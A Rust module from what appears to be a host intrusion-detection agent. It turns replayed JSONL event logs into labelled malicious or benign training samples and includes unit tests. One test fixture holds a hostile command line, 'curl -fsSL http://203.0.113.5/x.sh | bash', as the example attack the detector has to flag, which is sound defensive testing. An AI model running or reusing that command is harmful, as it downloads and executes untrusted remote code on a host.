//! Building labelled samples by replaying JSONL files through the [`Engine`], with a fresh
//! [`Baseline`] per file, exactly as the agent builds an incident's context: whatever
//! detectors exist at train time produce the incidents.
//!
//! A file's label comes from a `# label: malicious|benign` header. Detector fixtures without
//! one are labelled by name: `positive-*` files are attacks written to trigger their detector
//! (malicious); `negative-*` files without a header contribute nothing. A positive fixture
//! whose incident holds only low-severity findings is left out too: a low-severity rule is a
//! signal that fires on routine administration as often as on attacks, so its fixture proves
//! the rule fires, not that the activity was an attack (the scenario corpus carries labelled
//! stories of such findings both ways). `# learning: true` replays the file as if the host's
//! baseline were still learning.

use std::collections::BTreeMap;

use chrono::TimeDelta;

use super::baseline::Baseline;
use super::context::{History, IncidentContext, UserClass, allowlist_near, ancestry};
use super::features::extract;
use super::file::{Label, Sample, SampleSource};
use crate::config::DetectorsConfig;
use crate::decide::config::AllowConfig;
use crate::decide::score::{FindingView, IncidentView};
use crate::engine::Engine;
use crate::finding::{Entity, Finding};
use crate::proctable::ProcessTable;
use crate::replay::{ReplayLine, classify_line};

/// The file's `# label:` header.
pub fn label_header(text: &str) -> Result<Option<Label>, String> {
    header(text, "label:")
        .map(|v| match v {
            "malicious" => Ok(Label::Malicious),
            "benign" => Ok(Label::Benign),
            other => Err(format!("`# label: {other}`: expected malicious or benign")),
        })
        .transpose()
}

fn header<'a>(text: &'a str, key: &str) -> Option<&'a str> {
    text.lines()
        .filter_map(|l| l.trim().strip_prefix('#'))
        .filter_map(|l| l.trim().strip_prefix(key))
        .map(str::trim)
        .next()
}

/// The context of one finding's incident: what the live agent computes in `respond::stage`.
pub fn context_for(
    finding: &Finding,
    max_stage: u32,
    procs: &ProcessTable,
    baseline: &Baseline,
    allow: &AllowConfig,
    history: History,
) -> (IncidentContext, Option<String>, Option<String>) {
    let (unit, uid) = match &finding.entity {
        Entity::Process { pid, .. } => procs
            .get_recent(*pid)
            .map_or((None, None), |p| (p.unit.clone(), Some(p.uid))),
        _ => (None, None),
    };
    let user = match &finding.entity {
        Entity::User { name } => Some(name.clone()),
        _ => None,
    };
    let user_class = uid
        .map(UserClass::of_uid)
        .or_else(|| user.as_deref().and_then(UserClass::of_name));
    let learning = baseline.learning(finding.ts);
    let ctx = IncidentContext {
        max_stage,
        ancestry: match &finding.entity {
            Entity::Process { pid, .. } => ancestry(procs, *pid),
            _ => Default::default(),
        },
        user_class,
        rarity: if learning {
            Default::default()
        } else {
            baseline.rarity(finding, finding.ts)
        },
        learning,
        history,
        allowlist_near: allowlist_near(&finding.entity, unit.as_deref(), user.as_deref(), allow),
    };
    (ctx, unit, user)
}

/// One incident being built from a file's findings (grouped by entity).
struct Building {
    view: IncidentView,
}

/// Replay one file and return one sample per incident (entity), labelled `label`.
pub fn samples_from_text(
    id_prefix: &str,
    text: &str,
    label: Label,
    source: SampleSource,
) -> Result<Vec<Sample>, String> {
    let learning = header(text, "learning:") == Some("true");
    let mut engine = Engine::new(&DetectorsConfig::default());
    // Corpus files replay minutes of activity: the baseline counts as mature unless the file
    // says otherwise.
    let learn = if learning {
        TimeDelta::days(365)
    } else {
        TimeDelta::zero()
    };
    let mut baseline = Baseline::new(TimeDelta::days(30), learn, 100_000);
    let allow = AllowConfig::default();
    let mut incidents: BTreeMap<String, Building> = BTreeMap::new();
    let mut order: Vec<String> = Vec::new();
    let mut found = Vec::new();
    for (n, line) in text.lines().enumerate() {
        let ev = match classify_line(line) {
            ReplayLine::Skip => continue,
            ReplayLine::Json(Ok(ev)) => ev,
            ReplayLine::Json(Err(e)) => return Err(format!("{id_prefix}:{}: {e}", n + 1)),
            ReplayLine::Raw(_) => {
                return Err(format!("{id_prefix}:{}: corpus files are JSONL", n + 1));
            }
        };
        baseline.observe(&ev);
        found.clear();
        engine.process(&ev, &mut found);
        for f in &found {
            let key = f.entity.key();
            let stage = f.stage.unwrap_or(0);
            let prev_stage = incidents.get(&key).map_or(0, |b| b.view.context.max_stage);
            let (ctx, unit, user) = context_for(
                f,
                stage.max(prev_stage),
                engine.processes(),
                &baseline,
                &allow,
                History::default(),
            );
            let fv = FindingView {
                detector: f.detector.clone(),
                technique: f.technique.clone(),
                severity: f.severity,
            };
            match incidents.get_mut(&key) {
                Some(b) => {
                    b.view.findings.push(fv);
                    // Rarity and ancestry accumulate over the incident's findings.
                    let c = &mut b.view.context;
                    c.max_stage = ctx.max_stage;
                    c.rarity.merge(&ctx.rarity);
                }
                None => {
                    order.push(key.clone());
                    incidents.insert(
                        key,
                        Building {
                            view: IncidentView {
                                id: 0,
                                entity: f.entity.clone(),
                                findings: vec![fv],
                                unit,
                                user,
                                uid: None,
                                context: ctx,
                                peers: Vec::new(),
                            },
                        },
                    );
                }
            }
        }
    }
    Ok(order
        .iter()
        .enumerate()
        .filter_map(|(i, key)| incidents.get(key).map(|b| (i, b)))
        .map(|(i, b)| {
            Sample::from_vector(format!("{id_prefix}#{i}"), label, source, &extract(&b.view))
        })
        .collect())
}

/// Samples of one file by the labelling rules above (`name` is the file name).
pub fn samples_for_file(
    id: &str,
    name: &str,
    text: &str,
    source: SampleSource,
) -> Result<Vec<Sample>, String> {
    let label = match (
        label_header(text).map_err(|e| format!("{id}: {e}"))?,
        source,
    ) {
        (Some(l), _) => l,
        (None, SampleSource::Fixture) if name.starts_with("positive") => {
            let mut s = samples_from_text(id, text, Label::Malicious, source)?;
            s.retain(|s| s.features.get("severity").is_some_and(|v| *v > 0.0));
            return Ok(s);
        }
        (None, SampleSource::Fixture) => return Ok(Vec::new()),
        (None, _) => return Err(format!("{id}: corpus file has no `# label:` header")),
    };
    samples_from_text(id, text, label, source)
}

#[cfg(test)]
mod tests {
    use super::*;

    const SH_C: &str = r#"# label: malicious
{"v":1,"ts":"2026-11-22T11:00:01.000Z","source":"ebpf","kind":"exec","pid":500,"ppid":1,"uid":33,"gid":33,"comm":"sh","filename":"/bin/sh","argv":["sh","-c","curl -fsSL http://203.0.113.5/x.sh | bash"],"argv_truncated":false,"cgroup_id":0}
"#;

    #[test]
    fn a_labelled_file_gives_one_sample_per_incident() {
        let s = samples_for_file("t/sh-c.jsonl", "sh-c.jsonl", SH_C, SampleSource::Scenario)
            .expect("samples");
        assert_eq!(s.len(), 1);
        assert_eq!(s[0].label, Label::Malicious);
        assert_eq!(s[0].id, "t/sh-c.jsonl#0");
        assert_eq!(s[0].features.get("user.system"), Some(&1.0));
        assert_eq!(s[0].features.get("new.binary"), Some(&1.0));
        assert_eq!(s[0].features.get("tactic.execution"), Some(&1.0));
    }

    #[test]
    fn labels_come_from_headers_or_fixture_names() {
        let body = SH_C.trim_start_matches("# label: malicious\n");
        assert!(
            samples_for_file("n", "negative-x.jsonl", body, SampleSource::Fixture)
                .expect("negative")
                .is_empty()
        );
        assert_eq!(
            samples_for_file("p", "positive-x.jsonl", body, SampleSource::Fixture)
                .expect("positive")[0]
                .label,
            Label::Malicious
        );
        assert!(samples_for_file("c", "x.jsonl", body, SampleSource::Scenario).is_err());
        // A positive fixture of a low-severity rule alone is not a label.
        let low = r#"{"v":1,"ts":"2026-11-22T11:00:01.000Z","source":"ebpf","kind":"exec","pid":520,"ppid":1,"uid":0,"gid":0,"comm":"systemctl","filename":"/usr/bin/systemctl","argv":["systemctl","enable","--now","x.service"],"argv_truncated":false,"cgroup_id":0}"#;
        assert!(
            samples_for_file("p", "positive-low.jsonl", low, SampleSource::Fixture)
                .expect("low")
                .is_empty()
        );
        let labelled = format!("# label: benign\n{low}\n");
        assert_eq!(
            samples_for_file("c", "x.jsonl", &labelled, SampleSource::Scenario)
                .expect("labelled")
                .len(),
            1
        );
        let bad = format!("# label: maybe\n{body}");
        assert!(
            samples_for_file("c", "x.jsonl", &bad, SampleSource::Scenario)
                .expect_err("bad label")
                .contains("maybe")
        );
        let learning = format!("# label: benign\n# learning: true\n{body}");
        let s =
            samples_for_file("l", "x.jsonl", &learning, SampleSource::Scenario).expect("learning");
        assert_eq!(s[0].features.get("baseline.learning"), Some(&1.0));
        assert_eq!(s[0].features.get("new.binary"), None);
    }
}
